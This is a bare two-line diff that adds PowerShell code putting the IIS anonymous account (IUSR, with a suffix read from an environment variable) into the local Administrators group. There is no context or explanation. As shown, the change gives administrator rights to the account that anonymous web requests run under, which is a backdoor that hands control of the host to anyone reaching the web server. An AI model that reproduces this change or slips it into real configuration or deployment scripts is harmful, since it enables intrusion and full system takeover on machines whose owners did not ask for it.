@@ -1,0 +1,2 @@
+[object[]]$x = "IUSR$env:SUFFIX"
+Add-LocalGroupMember Administrators $x
